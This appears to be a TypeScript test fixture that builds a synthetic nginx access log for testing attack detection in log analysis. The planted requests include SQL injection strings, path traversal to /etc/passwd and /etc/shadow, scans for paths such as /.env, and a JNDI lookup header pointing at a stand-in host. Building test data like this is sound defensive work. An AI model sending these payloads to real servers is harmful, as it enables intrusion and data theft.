/** A web server's access log of some hours with attackers in it, the same each time but for when it ends. */
import { createRandom, type Random } from '#practices/traffic';

export type AttackedLog = Readonly<{
  text: string;
  lines: number;
  /** Address of each attacker, by what it does. */
  planted: Readonly<Record<string, string>>;
  /** Its lines are the last ones, and any tool takes them for an attack: who names it has read all. */
  last: string;
}>;

const SPAN_MS = 3 * 3_600_000;
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0',
] as const;
const PAGES = [
  '/',
  '/products',
  '/products/winter?page=2',
  '/account',
  '/help',
  '/cart',
  '/assets/app.css',
  '/assets/app.js',
  '/imprint',
];
const PROBED = [
  '/wp-login.php',
  '/.env',
  '/.git/config',
  '/xmlrpc.php',
  '/phpmyadmin/index.php',
  '/admin.php',
  '/mysqladmin/',
  '/cgi-bin/luci',
  '/roundcube/',
  '/myadmin/',
  '/wp-admin/setup.php',
  '/backup.sql',
];
const INJECTED = [
  '/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--',
  '/products?id=1%20OR%201=1',
  '/search?q=%27;%20DROP%20TABLE%20users;--',
  '/products?id=1%20AND%20SLEEP(5)',
];
const CLIMBED = ['/static/../../../../etc/passwd', '/download?file=../../../../etc/passwd', '/..%2f..%2f..%2fetc/shadow', '/images/%2e%2e/%2e%2e/etc/hosts']; // prettier-ignore

type Line = Readonly<{ at: number; address: string; request: string; code: number; bytes: number; agent: string }>;
type Step = Readonly<{ request: string; code: number; agent?: string }>;

const ATTACKS: Readonly<Record<string, Readonly<{ count: number; everyMs: number; step: (i: number) => Step }>>> = {
  'paths that lie open on others': { count: 60, everyMs: 700, step: (i) => ({ request: `GET ${PROBED[i % PROBED.length]}`, code: 404 }) },
  'SQL in parameters': { count: 40, everyMs: 1500, step: (i) => ({ request: `GET ${INJECTED[i % INJECTED.length]}`, code: i % 3 === 0 ? 500 : 200 }) },
  'out of the folder': { count: 40, everyMs: 1200, step: (i) => ({ request: `GET ${CLIMBED[i % CLIMBED.length]}`, code: 400 }) },
  'guessed passwords': { count: 120, everyMs: 1000, step: () => ({ request: 'POST /login', code: 401 }) },
  'a scanner that says its name': { count: 60, everyMs: 400, step: (i) => ({ request: `GET /scan/${i}`, code: 404, agent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' }) },
  'ids one by one': { count: 200, everyMs: 1500, step: (i) => ({ request: `GET /orders/${50_000 + i}`, code: i % 9 === 0 ? 200 : 404 }) },
  'a look-up in a header': { count: 20, everyMs: 2000, step: () => ({ request: 'GET /', code: 200, agent: '${jndi:ldap://203.0.113.9/a}' }) },
}; // prettier-ignore

/** @param ends   when its last line is: near now, as tools look back only so far */
export function attackedLog(lines: number, ends: number): AttackedLog {
  const random = createRandom(11);
  const began = ends - SPAN_MS;
  const made: Line[] = [];
  const planted: Record<string, string> = {};
  for (const [i, [name, { count, everyMs, step }]] of Object.entries(ATTACKS).entries()) {
    const address = `198.51.100.${11 + i}`;
    planted[name] = address;
    const from = began + 600_000 + random.whole(0, SPAN_MS - 1_800_000);
    for (let n = 0; n < count; n += 1) {
      const { request, code, agent = AGENTS[0] } = step(n);
      made.push({ at: from + n * everyMs, address, request, code, bytes: 300, agent });
    }
  }
  const last = '198.51.100.99';
  for (let n = 0; n < 48; n += 1)
    made.push({ at: ends - 1000 + n * 20, address: last, request: `GET ${PROBED[n % PROBED.length]}`, code: 404, bytes: 162, agent: AGENTS[0] });
  const people = Math.max(20, Math.floor(lines / 40));
  while (made.length < lines) made.push(ofSomebody(random, began, people));
  const text = made
    .toSorted((a, b) => a.at - b.at)
    .map(asNginx)
    .join('');
  return { text, lines: made.length, planted: { ...planted, 'the last one': last }, last };
} // prettier-ignore

function ofSomebody(random: Random, began: number, people: number): Line {
  const who = random.whole(0, people);
  const [at, address] = [began + random.whole(0, SPAN_MS - 60_000), `91.${(who >> 8) & 255}.${who & 255}.4`];
  const agent = AGENTS[who % AGENTS.length] as string;
  if (random.chance(0.02)) return { at, address, request: 'POST /login', code: random.chance(0.1) ? 401 : 302, bytes: 0, agent };
  const isDead = random.chance(0.02);
  const page = isDead ? `/products/${random.whole(1, 5000)}` : random.pick(PAGES);
  return { at, address, request: `GET ${page}`, code: isDead ? 404 : 200, bytes: random.whole(200, 60_000), agent };
} // prettier-ignore

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (n: number): string => String(n).padStart(2, '0');

/** nginx's `combined`. */
function asNginx({ at, address, request, code, bytes, agent }: Line): string {
  const time = new Date(at);
  const day = `${two(time.getUTCDate())}/${MONTHS[time.getUTCMonth()]}/${time.getUTCFullYear()}`;
  const clock = `${two(time.getUTCHours())}:${two(time.getUTCMinutes())}:${two(time.getUTCSeconds())}`;
  return `${address} - - [${day}:${clock} +0000] "${request} HTTP/1.1" ${code} ${bytes} "-" "${agent}"\n`;
}
